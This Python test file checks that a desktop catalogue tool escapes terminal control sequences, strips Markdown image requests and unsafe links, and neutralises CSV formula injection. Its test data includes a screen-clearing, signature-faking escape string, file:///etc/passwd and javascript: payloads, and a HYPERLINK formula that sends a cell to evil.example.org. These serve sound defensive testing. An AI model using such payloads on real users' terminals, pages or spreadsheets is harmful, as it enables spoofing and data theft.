"""Hostile content that reaches a screen or a spreadsheet (issue 12, items 15-17): terminal
escapes are written out on every terminal output, Markdown images never make a request and odd
links lose their target, and CSV cells never run as formulas.

The catalogues here hold the hostile text in catalogue.db itself, as one built or imported
before validation refused it would."""

from __future__ import annotations

import csv
import json
import re
import shutil
import sqlite3

import pytest
from updates_support import World, run_cli, session_world

from desktop.core.model import Hit
from desktop.core.rendering import markdown_to_html, write_results_csv

PRACTICE = "hillcrest-migrant-desk"
# A title that clears the screen, rewrites the line and fakes a "signed by" line, then turns the
# rest of the terminal red and reversed.
HOSTILE = "Desk\x1b[2J\rSigned by hq-editor (5dc7 5c34 ed7e 9526)\x9b31m\u202eksed\x07"
RAW = ("\x1b", "\r", "\x9b", "\u202e", "\x07")


def assert_no_raw_controls(text: str) -> None:
    assert not any(ch in text for ch in RAW), repr(text)
    assert "\\u001b[2J" in text and "\\u000d" in text  # shown, not obeyed


@pytest.fixture
def hostile_project(fixture_build, tmp_path):
    """The fixture catalogue with HOSTILE in a practice's title, place and text."""
    root = tmp_path / "project"
    shutil.copytree(fixture_build, root)
    conn = sqlite3.connect(root / "catalogue.db")
    with conn:
        conn.execute("UPDATE practices SET title = ?, place = ?, body = body || ? WHERE id = ?",
                     (HOSTILE, HOSTILE, "\n\n" + HOSTILE, PRACTICE))
    conn.close()
    return root


@pytest.mark.parametrize("command", [
    ("search", "desk"),
    ("search", ""),
    ("show", PRACTICE),
    ("related", "lakeview-orchard-cooperative"),
])
def test_search_and_show_write_control_characters_out(hostile_project, tmp_path, command):
    code, out, err = run_cli("--root", hostile_project, "--home", tmp_path / "home", *command)
    assert code == 0 and HOSTILE[:4] in out, err
    assert_no_raw_controls(out)


def test_json_output_stays_valid_and_equal(hostile_project, tmp_path):
    code, out, _ = run_cli("--root", hostile_project, "--home", tmp_path / "home", "show", PRACTICE, "--json")
    assert code == 0 and not any(ch in out for ch in RAW)
    assert json.loads(out)["title"] == HOSTILE  # the same value, written safely


@pytest.fixture
def world(tmp_path, tmp_path_factory) -> World:
    return session_world(tmp_path_factory).copy(tmp_path / "world")


def test_an_error_message_quoting_a_file_name_is_escaped(world, tmp_path):
    path = tmp_path / "x\x1b[2J.contribution.md"
    path.write_text("not a contribution", encoding="utf-8")
    code, out, err = run_cli("--root", world.editor, "contributions", "import", path)
    assert code == 2 and "\x1b" not in err and "x\\u001b[2J.contribution.md" in err, err


def test_the_import_preview_writes_control_characters_out(world):
    """A title in the preview faked a "Signed by hq-editor (5dc7 ...)" line. The delta v3 removes
    a practice, whose title the preview shows from the installed catalogue."""
    folder = next((world.home / "catalogues").glob("v*"))
    conn = sqlite3.connect(folder / "catalogue.db")
    with conn:
        conn.execute("UPDATE practices SET title = ? WHERE id = ?", (HOSTILE, world.ids[1]))
    conn.close()
    code, out, err = run_cli("--root", world.field, "--home", world.home, "import", world.v3)
    assert "Removed: 1" in out, out + err
    assert_no_raw_controls(out)
    assert "\nSigned by" not in out


def test_contributions_import_output_is_escaped(world, tmp_path, monkeypatch):
    from desktop.core import contributions
    real = contributions.import_contribution

    def hostile(resources, path):  # as a contribution imported before validation refused this
        result = real(resources, path)
        return contributions.ImportedContribution(path=result.path, practice_id=result.practice_id,
                                                  title=HOSTILE, notes=(HOSTILE,))
    monkeypatch.setattr(contributions, "import_contribution", hostile)
    path = tmp_path / "ok.contribution.md"
    contributions.write_contribution(path, {"title": "A council", "description": "Text.", "levels": ["local"],
                                            "approaches": ["participatory-consultation"]})
    code, out, err = run_cli("--root", world.editor, "contributions", "import", path)
    assert code == 0, err
    assert_no_raw_controls(out)


@pytest.mark.parametrize("text, shown", [
    ("a\x1bb", "a\\u001bb"),
    ("line\rover", "line\\u000dover"),
    ("tab\tand\nline", "tab\tand\nline"),
    ("csi\x9bm", "csi\\u009bm"),
    ("\u202eevil", "\\u202eevil"),
    ("plain é ü 中", "plain é ü 中"),
])
def test_terminal_safe(text, shown):
    from desktop.core.text import terminal_safe
    assert terminal_safe(text) == shown


# -- item 16: Markdown images and links -----------------------------------------------------------

@pytest.mark.parametrize("markdown, alt", [
    ("![x](http://example.org/track.png)", "x"),
    ("![passwd](file:///etc/passwd)", "passwd"),
    ("![share](file://host/share/x.png)", "share"),
    ("![ref][1]\n\n[1]: file:///etc/passwd", "ref"),
    ("![short]\n\n[short]: http://example.org/x.png", "short"),
    ("![rel](../../../../etc/passwd)", "rel"),
    ("![unc](\\\\\\\\host\\\\share\\\\x.png)", "unc"),
    ("![data](data:image/png;base64,AAAA)", "data"),
    ("[![inner](http://example.org/i.png)](https://example.org)", "inner"),
])
def test_images_are_shown_as_their_alt_text(markdown, alt):
    rendered = markdown_to_html(markdown)
    assert "<img" not in rendered and "src=" not in rendered, rendered
    assert alt in rendered


@pytest.mark.parametrize("target", [
    "//evil.example.org/x",  # protocol-relative: http or, in a file:// page, SMB
    "\\\\\\\\host\\\\share",  # a UNC path
    "/\\\\host/share",
    "/etc/passwd",
    "../other.md",
    "practice://evil.example.org",
    # refused before issue 12 too, kept as guards:
    "file:///etc/passwd", "FILE:///etc/passwd", "javascript\\:alert(1)", "jav&#x61;script:alert(1)",
    "java\tscript:alert(1)", "data:text/html,hi", "smb://host/share",
])
def test_links_outside_the_allowed_schemes_lose_their_target(target):
    rendered = markdown_to_html(f"[text]({target}) and [ref][r] and <{target}>\n\n[r]: {target}")
    targets = re.findall(r'href="([^"]*)"', rendered)
    assert targets and set(targets) == {"#"} and "text" in rendered, rendered


@pytest.mark.parametrize("target", ["https://example.org/a?b=1&c=2", "http://example.org", "mailto:a@example.org",
                                    "practice:ecuador-congope", "guidance:migration-data", "#section"])
def test_allowed_links_are_kept(target):
    rendered = markdown_to_html(f"[text]({target})")
    assert 'href="#"' not in rendered or target == "#section"


def test_an_autolinked_e_mail_address_is_kept():
    assert 'href="#"' not in markdown_to_html("<someone@example.org>")


# -- item 17: CSV formula injection ----------------------------------------------------------------

@pytest.mark.parametrize("value, cell", [
    ('=HYPERLINK("http://evil.example.org/?x="&A1,"Click")', "'=HYPERLINK"),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("  =1+1", "'  =1+1"),
    ("Plain title", "Plain title"),
    ("a = b", "a = b"),
])
def test_csv_cells_never_start_a_formula(tmp_path, fixture_catalogue, value, cell):
    hit = Hit(id=PRACTICE, title=value, original_title=value, country="ecuador", countries=("ecuador",),
              place=value, region="americas", levels=("local",), approaches=(), policy_areas=(), year=2020,
              score=1.0, snippet="")
    path = tmp_path / "results.csv"
    write_results_csv([hit], path, fixture_catalogue.taxonomy, headers={"title": "=title"})
    rows = list(csv.reader(open(path, encoding="utf-8-sig", newline="")))
    assert rows[0][1] == "'=title"
    assert rows[1][1].startswith(cell) and rows[1][2].startswith(cell) and rows[1][4].startswith(cell)
    assert rows[1][1].lstrip("'") == value  # nothing but the apostrophe is added


def test_csv_cell_of_numbers_and_empty_values():
    from desktop.core.rendering import csv_cell
    assert csv_cell(None) == "" and csv_cell(2020) == "2020" and csv_cell(-5) == "'-5"
